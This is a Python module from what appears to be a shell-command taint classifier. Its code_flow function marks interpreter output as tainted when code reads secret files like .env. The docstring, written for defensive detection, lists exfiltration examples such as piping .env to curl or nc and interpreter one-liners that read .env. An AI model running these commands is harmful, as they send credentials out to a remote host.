"""The output of an interpreter that runs inline code or a script: what it may print.

An interpreter's output is marked ``exec`` (it runs code the classifier reads elsewhere).
It also carries secret data, so that it blocks when it reaches a network tool, like ``cat
.env | curl -d @- URL`` does:

* code that reads a secret file (``perl -e 'open(F, ".env"); print <F>'``, ``ruby -e 'puts
  File.read(".env")'``, ``php -r 'readfile(".env");'``, ``node -e '..readFileSync(".env")'``;
  :func:`._codesecrets.secret_file_read`);
* the same code given on stdin (``python3 <<'EOF' ... EOF | nc h p``);
* a secret file given as an operand after the code, script or module (``perl -ne print
  .env``, ``perl -pe '' .env``, ``python -c '..sys.argv[1]..' .env``, ``python -m json.tool
  .env``): ``-n``/``-p``, ``<>``, ``ARGF`` and ``sys.argv`` read them;
* the secret data its shell-outs print (``perl -e 'print `cat .env`'``, ``python -c
  'subprocess.run(["cat", ".env"])'``);
* secret data on its stdin when the code or a script is given apart from it (``cat .env |
  perl -pe 's/a/b/'``): a filter prints what it reads, as any plain program's output keeps
  its stdin's taint.

Reading a secret file alone still passes (``ruby -e 'puts File.read(".env")'``), as ``cat
.env`` does; reading ``VERSION`` or ``README.md`` gives no taint.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._codesecrets import secret_file_read
from ._flow import Flow
from ._secrets import secret_file
from ._values import Source

if TYPE_CHECKING:
    from ._resolve import Invocation
    from ._walk import Run
    from ._words import Field

__all__ = ["code_flow"]


def code_flow(run: Run, inv: Invocation, code: Field | None, operands: list[Field],
              stdin: Flow | None, shelled: set[Source]) -> Flow:
    """The output flow of ``inv`` running ``code`` (None: a script) on ``operands``;
    ``shelled`` is the secret data its shell-outs print (``_interpcode.interp_code``)."""
    span = run.map_span(inv.word.span)
    taint = {Source("exec", inv.name or "a command", span), *shelled}
    if stdin is not None and stdin.taint:
        taint.update(s for s in stdin.taint if s.kind == "secret")
    if (code is not None and secret_file_read(code.text)) or (operands and secret_file(
            [f for f in operands if not f.text.startswith("-")])):
        taint.add(Source("secret", inv.name, span))
    return Flow(frozenset(taint), inv.name, inv.word.span)
